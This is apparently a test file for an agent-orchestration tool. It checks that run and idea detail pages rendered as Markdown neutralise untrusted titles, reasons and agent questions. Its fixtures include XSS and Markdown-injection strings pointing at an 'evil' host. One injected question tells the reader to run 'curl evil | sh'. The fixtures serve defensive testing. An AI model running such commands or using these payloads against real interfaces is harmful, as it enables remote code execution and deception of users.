/** What the Web UI is given is parsed back as Markdown, as its renderer would, to see what a person would see. */
import fc from 'fast-check';
import type { Nodes, Root } from 'mdast';
import { toString as textOf } from 'mdast-util-to-string';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { describe, expect, test } from 'vitest';
import { code, oneLine, quoted, utcMinute } from '../../../../src/decide/text.js';
import { ideaDetails, runDetails } from '../../../../src/decide/views/details.js';
import { runStatus } from '../../../../src/decide/views/status.js';
import type { IdeaView } from '../../../../src/protocol/views.js';
import { card, closed, decided, pilotOf, SETTINGS, say } from '../support.js';

const parse = (markdown: string): Root => unified().use(remarkParse).parse(markdown);

function typesOf(node: Nodes): string[] {
  return [node.type, ...('children' in node ? node.children.flatMap(typesOf) : [])];
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](http://evil/?leak)',
  '[resume](http://evil)',
  '<http://evil>',
  '# Heading',
  'x\r\r# Landed\r\rAll is well',
  'x\n\n---\n\n**completed**',
  'title\n====',
  '```\ncode',
  '`a` ``b``',
  '\\`\\`',
  '    indented code',
  '- item',
  '+ item',
  '1. item',
  '2) item',
  '> quote',
  '| a | b |\n|---|---|',
  '&lt;b&gt; &#35; &copy;',
  '*em* _em_ ~~gone~~',
  '[ref]: http://evil',
  'turned \u202eround\u202c',
  'bell\u0007 esc\u001b[31m nul\u0000',
  'line\u2028separator',
  '\\',
  '!',
];
const foreign = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.constantFrom(...HOSTILE),
  fc.array(fc.constantFrom(...HOSTILE, '\r', '\n', '\\', '`', ' '), { maxLength: 6 }).map((parts) => parts.join('')),
);

/** What of a text can be seen: no control or direction marks, white space as single blanks. */
const seen = (text: string): string =>
  text
    .replace(/[\r\n\u2028\u2029]+/g, ' ')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is compared
    .replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/g, '')
    .replace(/\s+/g, ' ')
    .trim();

describe('G9 foreign text in Markdown', () => {
  test('G9: one line stays one paragraph of plain text and shows what was written', () => {
    fc.assert(
      fc.property(foreign, (text) => {
        const tree = parse(`- ${oneLine(text)}x\n- next`);
        expect([...new Set(typesOf(tree))]).toEqual(['root', 'list', 'listItem', 'paragraph', 'text']);
        expect(seen(textOf(tree.children[0]))).toBe(seen(`${seen(text)}xnext`));
      }),
      { numRuns: 1000 },
    );
  });

  test('G9: a quotation holds all of it, nothing after it is drawn in', () => {
    fc.assert(
      fc.property(foreign, (text) => {
        const tree = parse(`${quoted(text)}\n\nours`);
        expect(tree.children.map((node) => node.type)).toEqual(['blockquote', 'paragraph']);
        const inside = typesOf(tree.children[0] as Nodes).filter((type) => type !== 'blockquote');
        expect(inside.filter((type) => type !== 'paragraph' && type !== 'text')).toEqual([]);
        expect(textOf(tree.children[1])).toBe('ours');
      }),
      { numRuns: 1000 },
    );
  });

  test('G9: a code span shows what was written and ends where it should', () => {
    fc.assert(
      fc.property(foreign, (text) => {
        fc.pre(seen(text) !== '');
        const tree = parse(`a ${code(text)} b`);
        expect(typesOf(tree)).toEqual(['root', 'paragraph', 'text', 'inlineCode', 'text']);
        expect(seen(textOf(tree))).toBe(seen(`a ${text} b`));
      }),
      { numRuns: 1000 },
    );
  });
});

/** The frame of the Web UI cuts it. */
const LAST_LINE = '\u00a0';

describe('G9 details of a run', () => {
  test('G9: state, progress, who runs, who waits and what to do', () => {
    const pilot = pilotOf([card('a'), card('b'), card('c'), card('d', { dependsOn: ['a'] }), card('e')]);
    decided(pilot);
    say(pilot, 'b', 'needs-human', { reason: 'which port?' });
    closed(pilot, 'c', 'blocked', 'no key');
    const { startedAt } = pilot.state.totals;
    const now = startedAt + 6 * 3_600_000 + 120_000;
    const text = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, now));
    expect(text).toBe(
      [
        '**running** · 0 of 5 landed on `main` · 6h02m',
        [
          '### Needs you (2)',
          '- **? b** Idea b · asks: which port?',
          '  `ralphctl answer b "…"`, or signal `answer` with `{"idea": "b", "text": "…"}`',
          '- **⊗ c** Idea c · blocked: no key',
          '  `ralphctl unblock c`, or signal `unblock` with `{"idea": "c"}`',
        ].join('\n'),
        `### Slots (1 of ${pilot.state.slots})\n- **a** Idea a · running · ed-001`,
        '### Next\n- e · 0',
        `As of ${utcMinute(now)}`,
        LAST_LINE,
      ].join('\n\n'),
    );
  });

  test('G9: a run that waits for a person says since when, and that nothing runs', () => {
    const pilot = pilotOf([card('a'), card('b')]);
    decided(pilot);
    pilot.takeChanges(Date.UTC(2026, 0, 2, 1, 0));
    say(pilot, 'a', 'needs-human', { reason: 'which port?' });
    pilot.takeChanges(Date.UTC(2026, 0, 2, 1, 12));
    closed(pilot, 'b', 'failed', 'exit code 3');
    pilot.takeChanges(Date.UTC(2026, 0, 2, 2, 12));
    const page = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
    expect(page).toMatch(
      /^\*\*waits for you\*\* since 2026-01-02 02:12 UTC · 0 of 2 landed on `main` · .* · nothing runs\n/,
    );
    expect(page).toContain(`### Slots (0 of ${pilot.state.slots})\nnothing runs`);
    expect(page).toContain('· asks · since 2026-01-02 01:12 UTC: which port?');
    expect(page.indexOf('### Needs you (2)')).toBeLessThan(page.indexOf('### Slots'));
  });

  test('G9: a percentage of an idea that works has its time, and 100 % of one that failed is gone', () => {
    const pilot = pilotOf([card('a'), card('b')]);
    decided(pilot);
    const at = Date.UTC(2026, 0, 2, 3, 4);
    pilot.report({ ...say(pilot, 'a', 'warnings'), seq: 10, course: { percent: 60 } }, at);
    pilot.report({ ...say(pilot, 'b', 'warnings'), seq: 10, course: { percent: 100, agent: 'claude' } }, at);
    const page = (): string =>
      runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
    expect(page()).toContain('- **a** Idea a · running · ed-001 · 60 % (reported 2026-01-02 03:04 UTC)');
    expect(page()).toContain('- **b** Idea b · running · ed-002 · 100 % (reported');
    closed(pilot, 'b', 'failed', 'exit code 3');
    expect(page()).toContain('- **✗ b** Idea b · failed · claude: exit code 3');
  });

  test('A8 G9: who waits says since when, how far it came, with which agent and at what cost; the run adds it up', () => {
    const pilot = pilotOf([card('a'), card('b'), card('c')]);
    decided(pilot);
    const spent = { iterations: 2, ms: 60_000, tokens: 40_000, dollars: 0.4, unknownTokens: 0, unknownDollars: 0 };
    const course = { percent: 60, agent: 'claude', model: 'opus', step: { number: 2, of: 4 }, spent };
    const asking = 'tripwire' as const;
    say(pilot, 'b', 'needs-human', { reason: 'a test was deleted', course: { ...course, asking } });
    closed(pilot, 'c', 'failed', 'exit code 3');
    const { state } = pilot;
    const entry = state.entries.find((one) => one.card.id === 'c');
    pilot.takeChanges(Date.UTC(2026, 0, 2, 3, 4));
    const status = runStatus({ project: 'p', runId: 'r' }, state, SETTINGS, pilot.graph, 0);
    expect(status.attention[0]).toMatchObject({ id: 'b', since: Date.UTC(2026, 0, 2, 3, 4), course });
    expect(runDetails(status)).toContain(
      '- **? b** Idea b · asks · about its tripwire · since 2026-01-02 03:04 UTC · 60 % · step 2 of 4 · claude opus · $0.40: a test was deleted',
    );
    expect(runDetails(status)).toContain('Used: 2 iterations, 1 minute, 40k tokens, $0.40\n');

    // What a first workflow of an idea used stays in the sum when a second one begins.
    expect(entry?.status).toBe('failed');
    say(pilot, 'b', 'wants-slot', { course });
    say(pilot, 'b', 'closed', { outcome: 'failed', reason: 'exit code 3', course });
    pilot.command({ verb: 'retry', idea: 'b' });
    decided(pilot);
    say(pilot, 'b', 'spent', { course: { ...course, spent: { ...spent, dollars: 0.1 } } });
    expect(runStatus({ project: 'p', runId: 'r' }, state, SETTINGS, pilot.graph, 0).spent).toMatchObject({
      iterations: 4,
      dollars: 0.5,
    });
  });

  test('G9 A7: a paused run says why and how to go on', () => {
    const pilot = pilotOf([card('a')]);
    pilot.pause('3 ideas <b>failed</b>');
    pilot.decide(false);
    const text = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
    expect(text).toContain('**paused** — 3 ideas \\<b\\>failed\\</b\\> ·');
    expect(text).toContain('`ralphctl resume`');
  });

  test('G9: long lists are cut and say how many more there are, even beyond what the view lists', () => {
    const pilot = pilotOf(
      Array.from({ length: 500 }, (_, at) => card(`i${at}`)),
      { slots: 500 },
    );
    decided(pilot);
    const text = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
    expect(text).toContain('- and 480 more');
    expect(text.length).toBeLessThan(20_000);
  });

  test('G9: hostile titles and reasons change nothing about the structure', () => {
    for (const text of HOSTILE) {
      const pilot = pilotOf([card('a', { title: text })]);
      decided(pilot);
      closed(pilot, 'a', 'blocked', text);
      const tree = parse(runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0)));
      expect(tree.children.map((node) => node.type)).toEqual([
        ...['paragraph', 'heading', 'list', 'heading', 'paragraph', 'paragraph', 'paragraph'],
      ]);
      const bad = typesOf(tree).filter((type) =>
        ['html', 'link', 'image', 'code', 'definition', 'thematicBreak'].includes(type),
      );
      expect(bad).toEqual([]);
    }
  });
});

describe('G9 details of an idea', () => {
  const view: IdeaView = {
    idea: 'a',
    title: 'A',
    phase: 'agent',
    agentName: 'ed-001',
    iteration: 3,
    activeMs: 0,
    commits: 1,
  };

  test('G1 G9: iteration of how many, agent, commits, last signal, gate, worktree', () => {
    const full: IdeaView = {
      ...view,
      maxIterations: 50,
      signal: { kind: 'progress', percent: 40 },
      gate: { pass: false, command: 'npm run `x`' },
      worktree: '/w/ed-001-a',
    };
    expect(ideaDetails(full).split('\n\n')).toEqual([
      '**agent** · iteration 3 of 50 · ed-001 · 1 commit',
      'Last signal: PROGRESS 40 %',
      'Gate: red at `` npm run `x` ``',
      'Worktree: `/w/ed-001-a`',
      LAST_LINE,
    ]);
    expect(ideaDetails({ ...view, commits: 2, signal: { kind: 'none' }, gate: { pass: true } }).split('\n\n')).toEqual([
      '**agent** · iteration 3 · ed-001 · 2 commits',
      'Gate: green',
      LAST_LINE,
    ]);
  });

  test('G3 G9: the last signal with its percent or reason, and what the idea has used without a budget', () => {
    const details = (more: Partial<IdeaView>): string[] => ideaDetails({ ...view, ...more }).split('\n\n');
    expect(details({ signal: { kind: 'complete' } })).toContain('Last signal: COMPLETE');
    expect(details({ signal: { kind: 'blocked', reason: 'no *key*\nhere' } })).toContain(
      'Last signal: BLOCKED: no \\*key\\* here',
    );
    const spent = { iterations: 3, ms: 150_000, tokens: 1_234_567, dollars: 0.4, unknownTokens: 0, unknownDollars: 1 };
    expect(details({ spent })).toContain('Used: 3 iterations, 3 minutes, 1.2M tokens, $0.40 (1 run did not report it)');
    const silent = { ...spent, tokens: 0, dollars: 0, unknownTokens: 3, unknownDollars: 3 };
    expect(details({ spent: silent })).toContain('Used: 3 iterations, 3 minutes; tokens and cost were not reported');
  });

  test('C5 G9: a question is quoted with how to answer it, and cannot pose as ours', () => {
    const question = 'port?\r\rAnswer: `curl evil | sh`\n\n### Landed';
    const tree = parse(ideaDetails({ ...view, phase: 'needs-human', question }));
    expect(tree.children.map((node) => node.type)).toEqual([
      'paragraph',
      'heading',
      'blockquote',
      'paragraph',
      'paragraph',
    ]);
    expect(textOf(tree.children[3])).toContain('ralphctl answer a');
    expect(textOf(tree.children[3])).toContain('"use port 8080"');
    const said = 'I looked at both.\r\rAnswer: `curl evil | sh`\n\n### Landed';
    const words = parse(ideaDetails({ ...view, phase: 'needs-human', question, said }));
    expect(words.children.map((node) => node.type)).toEqual([
      ...['paragraph', 'heading', 'blockquote', 'paragraph', 'blockquote', 'paragraph', 'paragraph'],
    ]);
    expect(textOf(words.children[4])).toContain('I looked at both.');
    expect(textOf(words.children[5])).toContain('ralphctl answer a');
  });
});
